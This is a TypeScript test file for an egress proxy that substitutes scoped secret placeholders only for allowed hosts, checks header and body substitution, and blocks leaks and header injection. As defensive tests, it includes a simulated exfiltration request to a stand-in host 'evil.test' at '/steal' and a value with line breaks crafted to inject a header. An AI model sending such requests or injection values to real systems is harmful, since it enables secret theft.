import assert from "node:assert/strict";
import { spawn, type ChildProcess } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { connect, createServer, type Server as NetServer, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { mintCertificateAuthority } from "../src/network/egress-ca.js";
import { readSecretAudit } from "../src/network/secret-audit.js";
import type { ScopedSecretRule } from "../src/network/secret-substitution.js";
import { startTlsTestServer, type ReceivedRequest } from "./helpers/tls-test-server.js";
import { httpsThroughProxy as proxiedHttps } from "./helpers/proxy-client.js";

const SERVER = join(import.meta.dirname, "..", "src", "network", "egress-server.js");
const VALUE = "sk-live-0123456789abcdef-REAL";
const PLACEHOLDER = `pyro-secret-${"ab".repeat(20)}`;
const PEM_PLACEHOLDER = `pyro-secret-${"cd".repeat(20)}`;
const PEM_VALUE = "-----BEGIN KEY-----\r\nX-Injected: yes\r\n-----END KEY-----";

describe("egress proxy with scoped secrets (real processes, loopback servers)", () => {
  let dir: string;
  let upstream: Awaited<ReturnType<typeof startTlsTestServer>>;
  let proxy: ChildProcess;
  let proxySocket: string;
  let lifelineServer: NetServer;
  let lifeline: Promise<Socket>;
  let caPem: string;
  let log = "";

  before(async () => {
    dir = await mkdtemp(join(tmpdir(), "pyro-secret-egress-"));
    // The upstream echoes the Authorization it got: the proxy must not hand the value back.
    upstream = await startTlsTestServer(dir, (r: ReceivedRequest) => `got auth=${r.headers.authorization} body=${r.body}\n`);
    const rules: ScopedSecretRule[] = [
      { name: "API_KEY", placeholder: PLACEHOLDER, value: VALUE, hosts: ["api.test"] },
      { name: "PEM", placeholder: PEM_PLACEHOLDER, value: PEM_VALUE, hosts: ["api.test"] },
    ];
    await writeFile(join(dir, "secrets.json"), JSON.stringify(rules));
    await writeFile(join(dir, "policy.json"), JSON.stringify({ allow: ["127.0.0.1"] }));
    const ca = await mintCertificateAuthority("ws-test");
    caPem = ca.certPem;
    await writeFile(join(dir, "ca.pem"), ca.certPem);
    await writeFile(join(dir, "ca-key.pem"), ca.keyPem);
    const lifelinePath = join(dir, "life.sock");
    lifelineServer = createServer();
    lifeline = new Promise<Socket>((resolve) => lifelineServer.once("connection", resolve));
    await new Promise<void>((r) => lifelineServer.listen(lifelinePath, () => r()));
    proxySocket = join(dir, "egress.sock");
    proxy = spawn(
      process.execPath,
      [
        SERVER,
        `--policy=${join(dir, "policy.json")}`,
        `--count-dir=${join(dir, "counts")}`,
        `--listen=${proxySocket}`,
        `--lifeline=${lifelinePath}`,
        `--secrets=${join(dir, "secrets.json")}`,
        `--audit=${join(dir, "audit.json")}`,
        `--tls-ca=${join(dir, "ca.pem")}`,
        `--tls-ca-key=${join(dir, "ca-key.pem")}`,
        "--test-resolve=api.test=127.0.0.1,evil.test=127.0.0.1",
        `--test-upstream-ca=${upstream.caPath}`,
      ],
      { stdio: ["ignore", "pipe", "pipe"] },
    );
    proxy.stderr!.on("data", (d: Buffer) => (log += d.toString()));
    await new Promise<void>((resolve, reject) => {
      proxy.stdout!.once("data", (d: Buffer) => (d.toString() === "ready\n" ? resolve() : reject(new Error(d.toString()))));
      proxy.once("exit", (code) => reject(new Error(`egress server exited with ${code}: ${log}`)));
    });
  });

  after(async () => {
    proxy.kill("SIGKILL");
    lifelineServer.close();
    void lifeline.then((l) => l.destroy());
    upstream.server.closeAllConnections();
    upstream.server.close();
    await rm(dir, { recursive: true, force: true });
  });

  /** CONNECT through the proxy, TLS to `host` trusting `ca`, one raw HTTP request; the whole answer. */
  const httpsThroughProxy = async (host: string, request: string, ca = caPem) =>
    (await proxiedHttps({ socket: proxySocket, host, port: upstream.port, ca, request })).toString("utf8");

  it("writes the value only into requests for the secret's host (header and body), and never returns it", async () => {
    const body = `{"token":"${PLACEHOLDER}"}`;
    const out = await httpsThroughProxy(
      "api.test",
      `POST /v1?k=${PLACEHOLDER} HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`,
    );
    const got = upstream.received.at(-1)!;
    assert.equal(got.headers.authorization, `Bearer ${VALUE}`);
    assert.equal(got.url, `/v1?k=${VALUE}`);
    assert.equal(got.body, `{"token":"${VALUE}"}`, "the body was substituted and its Content-Length fixed");
    assert.match(out, /^HTTP\/1\.1 200/);
    assert.ok(out.includes(`got auth=Bearer ${PLACEHOLDER}`), "the echoed value comes back as the placeholder");
    assert.ok(!out.includes(VALUE));
  });

  it("substitutes in a chunked body and in Basic credentials (git, curl -u)", async () => {
    const chunks = [`a${PLACEHOLDER.slice(0, 7)}`, PLACEHOLDER.slice(7, 30), `${PLACEHOLDER.slice(30)}z`];
    const chunked = chunks.map((c) => `${c.length.toString(16)}\r\n${c}\r\n`).join("") + "0\r\n\r\n";
    const basic = Buffer.from(`git:${PLACEHOLDER}`).toString("base64");
    await httpsThroughProxy(
      "api.test",
      `POST /c HTTP/1.1\r\nHost: api.test\r\nAuthorization: Basic ${basic}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunked}`,
    );
    const got = upstream.received.at(-1)!;
    assert.equal(got.body, `a${VALUE}z`, "a placeholder split across chunks is substituted");
    assert.equal(Buffer.from(got.headers.authorization!.replace(/^Basic /, ""), "base64").toString(), `git:${VALUE}`);
  });

  it("refuses the placeholder bound for another host (403, audited, logged), forwarding nothing", async () => {
    const before = upstream.received.length;
    const out = await httpsThroughProxy("evil.test", `GET /steal HTTP/1.1\r\nHost: evil.test\r\nX-Leak: ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
    assert.match(out, /^HTTP\/1\.1 403 Forbidden[\s\S]*placeholder of secret API_KEY, which may only be sent to api\.test, not to evil\.test/);
    const plain = await new Promise<string>((resolve) => {
      const s = connect(proxySocket);
      let o = "";
      s.on("data", (d) => (o += d));
      s.on("close", () => resolve(o));
      s.write(
        `POST http://evil.test:${upstream.port}/x HTTP/1.1\r\nHost: evil.test\r\nContent-Length: ${PLACEHOLDER.length}\r\nConnection: close\r\n\r\n${PLACEHOLDER}`,
      );
    });
    assert.match(plain, /^HTTP\/1\.1 403 [\s\S]*exfiltration attempt/);
    assert.equal(upstream.received.length, before, "nothing reached the upstream");
    await new Promise((r) => setTimeout(r, 100));
    const audit = readSecretAudit(join(dir, "audit.json"));
    assert.equal(audit.API_KEY?.refused["evil.test"], 2);
    assert.ok((audit.API_KEY?.sent["api.test"] ?? 0) >= 1);
    assert.match(log, /exfiltration attempt refused: .*evil\.test/);
    const files = [log, await readFile(join(dir, "audit.json"), "utf8")];
    for (const text of files) assert.ok(!text.includes(VALUE), "no value in the proxy's log or audit");
  });

  it("a value with line breaks goes into bodies, but never splits a header (400, the proxy lives on)", async () => {
    const before = upstream.received.length;
    const out = await httpsThroughProxy("api.test", `GET /h HTTP/1.1\r\nHost: api.test\r\nX-Key: ${PEM_PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
    assert.match(out, /^HTTP\/1\.1 400 [\s\S]*cannot be forwarded: Invalid character in header content \["X-Key"\]/);
    assert.ok(!out.includes("BEGIN KEY"));
    assert.equal(upstream.received.length, before);
    const body = `k=${PEM_PLACEHOLDER}`;
    await httpsThroughProxy("api.test", `POST /b HTTP/1.1\r\nHost: api.test\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`);
    assert.equal(upstream.received.at(-1)?.body, `k=${PEM_VALUE}`);
    assert.equal(upstream.received.at(-1)?.headers["x-injected"], undefined);
  });

  it("presents certificates only the workspace's own CA verifies", async () => {
    const other = await mintCertificateAuthority("another-workspace");
    await assert.rejects(
      httpsThroughProxy("api.test", "GET / HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n", other.certPem),
      /self-signed|unable to (get|verify)|certificate/,
    );
  });
});
